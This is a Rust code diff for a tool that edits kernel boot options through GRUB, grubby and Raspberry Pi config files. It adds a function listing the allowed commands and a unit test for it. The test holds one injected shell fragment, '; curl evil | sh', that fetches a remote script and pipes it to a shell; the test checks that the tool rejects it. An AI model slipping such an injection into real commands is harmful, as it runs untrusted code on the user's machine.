@@ -55,6 +55,25 @@ pub(super) fn change(tree: &Tree, option: &str, stands: Option<&str>) -> BootCha
     }
 }
 
+/// Every way to start a machine with an option that is known here.
+pub(super) fn all(option: &str, stands: Option<&str>) -> Vec<BootChange> {
+    let mut all = vec![unknown(option)];
+    if is_plain(option) {
+        all.push(grubby(option, None));
+        all.extend(
+            stands
+                .filter(|stands| is_plain(stands))
+                .map(|it| grubby(option, Some(it))),
+        );
+        all.push(in_an_entry(option));
+        all.extend(PI_FILES.map(|file| in_one_line(option, file)));
+        for (_, update) in GRUB_UPDATES {
+            all.extend([from_folder(option, update), from_settings(option, update)]);
+        }
+    }
+    all
+}
+
 /// Whether a shell and sed take it as it is.
 fn is_plain(option: &str) -> bool {
     let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"=,:_-".contains(&byte);
@@ -156,7 +175,14 @@ mod tests {
 
     #[test]
     fn each_boot_loader_is_known_by_its_files_and_has_its_own_commands() {
+        let option = "mitigations=off";
+        let is_known = |change: &BootChange| all(option, None).contains(change);
         let debian = ["etc/default/grub", "usr/sbin/update-grub"];
+        let by_files = ["etc/default/grub.d", "usr/sbin/grub2-mkconfig"];
+        assert!(is_known(&on("known", &debian)) && is_known(&on("by-files", &by_files)));
+        let mut strange = on("strange", &debian);
+        strange.make[0] += "; curl evil | sh";
+        assert!(!is_known(&strange));
         assert_eq!(on("debian", &debian).make[1], "update-grub");
         let fedora = ["etc/default/grub", "usr/sbin/grubby"];
         let arguments = "--args=mitigations=off";
